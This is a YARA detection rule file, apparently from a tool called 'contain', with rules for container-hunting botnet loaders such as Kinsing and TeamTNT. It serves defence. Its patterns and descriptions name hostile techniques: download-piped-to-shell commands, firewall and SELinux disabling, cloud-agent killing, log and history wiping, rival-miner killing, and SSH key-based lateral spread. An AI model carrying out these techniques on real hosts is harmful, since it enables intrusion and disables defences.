/*
 * botnets.yar: loaders of the container-hunting botnets (Kinsing, TeamTNT and
 * their kin): download-and-run, defence and firewall tampering, killing the
 * competition, spreading with the host's SSH keys. Written for contain; see
 * yara-rules/README.md.
 */

rule Botnet_Download_Pipe_Shell : botnet
{
    meta:
        title = "download piped into a shell"
        description = "a script fetched and run in one go: curl or wget output piped into a shell (curl -fsSL http://HOST/x.sh | bash, wget -q -O - URL | sh)"
        severity = "medium"
        attack = "T1105"
        reference = "https://attack.mitre.org/techniques/T1105/"
        author = "contain"

    strings:
        $curl = /\bcurl\s+[^\n|;&]{0,200}https?:\/\/[^\s|;&]{1,200}[^\n|;&]{0,64}\|\s*(sudo\s+)?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/ ascii
        $wget = /\bwget\s+[^\n|;&]{0,200}-O\s*-\s[^\n|;&]{0,200}\|\s*(sudo\s+)?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/ ascii
        $wget2 = /\bwget\s+[^\n|;&]{0,64}-q?O-?\s+[^\n|;&]{0,200}\|\s*(sudo\s+)?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/ ascii
        $b64 = /\becho\s+['"]?[A-Za-z0-9+\/=]{40,4096}['"]?\s*\|\s*base64\s+(-d|--decode)\s*\|\s*(\/usr)?(\/bin\/)?(ba|da|z)?sh\b/ ascii

    condition:
        filesize < 8MB and any of them
}

rule Botnet_Security_Tampering : botnet
{
    meta:
        title = "defences and firewall disabled"
        description = "a loader disabling defences together: firewall flushed or disabled (ufw disable, iptables -F), chattr to lock or unlock files, SELinux off, cloud agents and kernel watchdogs stopped, history wiped"
        severity = "high"
        attack = "T1562.001"
        reference = "https://attack.mitre.org/techniques/T1562/001/"
        author = "contain"

    strings:
        $fw1 = /\bufw\s+disable\b/ ascii
        $fw2 = /\biptables\s+(-t\s+\w{1,8}\s+)?(-F|--flush)\b/ ascii
        $fw3 = /\bsystemctl\s+(stop|disable)\s+(firewalld|ufw|iptables)\b/ ascii
        $fw4 = /\biptables\s+-P\s+(INPUT|OUTPUT|FORWARD)\s+ACCEPT\b/ ascii
        $ch1 = /\bchattr\s+[-+]i[a]?\s+[^\n]{0,64}\/(etc\/(crontab|passwd|shadow|ld\.so\.preload|cron\.d)|root\/\.ssh|var\/spool\/cron|usr\/(local\/)?bin|tmp)/ ascii
        $ch2 = /\bchattr\s+-[ia]{1,2}\s+[^\n]{0,64}\.ssh\/authorized_keys/ ascii
        $se1 = /\bsetenforce\s+0\b/ ascii
        $se2 = /SELINUX=disabled/ ascii
        $ag1 = /\b(aliyun|aegis|AliYunDun|qcloud|YDService|bcm-agent|cloudmonitor|cloud-agent|oneagent)\b[^\n]{0,64}(stop|kill|rm\s+-rf|uninstall|disable)/ ascii nocase
        $ag2 = /(stop|kill|pkill|killall|uninstall|rm\s+-rf)\s[^\n]{0,64}\b(aliyun|aegis|AliYunDun|qcloud|YDService|bcm-agent|cloudmonitor)\b/ ascii nocase
        $wd = /echo\s+['"]?0['"]?\s*>\s*\/proc\/sys\/kernel\/nmi_watchdog/ ascii
        $hist1 = /\bhistory\s+-c\b/ ascii
        $hist2 = /(unset\s+HISTFILE|export\s+HISTFILE=\/dev\/null|HISTSIZE=0)/ ascii
        $log = /(echo\s+['"]?['"]?\s*>|cat\s+\/dev\/null\s*>)\s*\/var\/log\/(wtmp|secure|auth\.log|syslog|messages|lastlog)/ ascii

    condition:
        filesize < 8MB and
        (
          (any of ($fw*) and (any of ($ch*) or any of ($ag*) or any of ($se*) or $wd or any of ($hist*) or $log)) or
          (any of ($ch*) and (any of ($ag*) or any of ($se*) or $wd or any of ($hist*) or $log)) or
          (any of ($ag*) and (any of ($se*) or $wd or any of ($hist*) or $log))
        )
}

rule Botnet_Competitor_Killing : botnet
{
    meta:
        title = "rival miners killed"
        description = "a script killing rival miners and botnets by name (kdevtmpfsi, kinsing, xmrig, minerd, xmr-stak, sysupdate, dbused ...) or by their pool ports, the habit of Kinsing and TeamTNT loaders"
        severity = "high"
        attack = "T1496"
        reference = "https://attack.mitre.org/techniques/T1496/"
        author = "contain"

    strings:
        $k1 = /\b(pkill|killall)\s+(-9\s+)?(-f\s+)?['"]?[^\s'"]{0,40}(kdevtmpfsi|kinsing|xmrig|minerd|xmr-stak|cryptonight|sysupdate|networkservice|sysguard|dbused|kthreaddi|kworkerds|watchbog|ddgs|cnrig|nanominer|solrd)/ ascii
        $k2 = /ps\s+[a-z\-]{1,8}\s*\|\s*grep\s+[^\n]{0,200}\|\s*(xargs\s+(-I\s*%\s+)?)?kill\s+-9/ ascii
        $k3 = /netstat\s+-[a-z]{2,6}\s*\|\s*grep\s+[^\n]{0,64}(3333|4444|5555|6666|7777|14444|14433|45700|45560)\b[^\n]{0,200}\|\s*(xargs\s+)?kill\b/ ascii
        $k4 = /\brm\s+-[rf]{1,2}\s+\/tmp\/(kdevtmpfsi|kinsing|\.xm|xmrig|\.sysupdate)/ ascii
        $n1 = "kdevtmpfsi" ascii
        $n2 = "kinsing" ascii fullword
        $n3 = "xmrig" ascii fullword nocase
        $n4 = "minerd" ascii fullword
        $n5 = "xmr-stak" ascii fullword
        $n6 = "sysupdate" ascii fullword
        $n7 = "networkservice" ascii fullword
        $n8 = "dbused" ascii fullword
        $n9 = "kworkerds" ascii fullword
        $n10 = "watchbog" ascii fullword
        $n11 = "cnrig" ascii fullword
        $n12 = "sysguard" ascii fullword
        $n13 = "kthreaddi" ascii fullword

    condition:
        filesize < 8MB and any of ($k*) and 2 of ($n*)
}

rule Botnet_Kinsing_Artifacts : botnet
{
    meta:
        title = "Kinsing botnet artifacts"
        description = "the file names and strings of the Kinsing botnet (kinsing, kdevtmpfsi, its /tmp and /etc paths) in a file or memory"
        severity = "high"
        attack = "T1496"
        reference = "https://attack.mitre.org/techniques/T1496/"
        author = "contain"

    strings:
        $n1 = "kdevtmpfsi" ascii wide
        $n2 = "kinsing" ascii wide fullword
        $p1 = "/tmp/kdevtmpfsi" ascii wide
        $p2 = "/etc/kinsing" ascii wide
        $p3 = "/tmp/kinsing" ascii wide
        $p4 = "/var/tmp/kinsing" ascii wide
        $p5 = "/dev/shm/kdevtmpfsi" ascii wide

    condition:
        ($n1 and $n2) or any of ($p*)
}

rule Botnet_TeamTNT_Artifacts : botnet
{
    meta:
        title = "TeamTNT name"
        description = "the TeamTNT group's own name (it signs its scripts and payloads and uses it in its domains) in a script, a binary or memory"
        severity = "high"
        attack = "T1496"
        reference = "https://attack.mitre.org/techniques/T1496/"
        author = "contain"

    strings:
        $t1 = "teamtnt" ascii wide nocase

    condition:
        any of them
}

rule Botnet_SSH_Lateral_Spread : botnet
{
    meta:
        title = "SSH lateral spreader"
        description = "a spreader walking the host's SSH trust: known_hosts and bash_history mined for hosts, private keys tried with ssh -oStrictHostKeyChecking=no -oBatchMode=yes, then a download run remotely"
        severity = "high"
        attack = "T1021.004"
        reference = "https://attack.mitre.org/techniques/T1021/004/"
        author = "contain"

    strings:
        $kh = ".ssh/known_hosts" ascii
        $hist = ".bash_history" ascii
        $idrsa = /\.ssh\/id_(rsa|ed25519|ecdsa|dsa)\b/ ascii
        $opt1 = /-o\s*StrictHostKeyChecking=no/ ascii nocase
        $opt2 = /-o\s*BatchMode=yes/ ascii nocase
        $opt3 = /-o\s*ConnectTimeout=\d{1,3}/ ascii nocase
        $run = /(curl|wget)\s[^\n]{0,200}\|\s*(\/usr)?(\/bin\/)?(ba|da|z)?sh\b/ ascii

    condition:
        filesize < 8MB and $kh and ($hist or $idrsa) and $opt1 and ($opt2 or $opt3) and $run
}
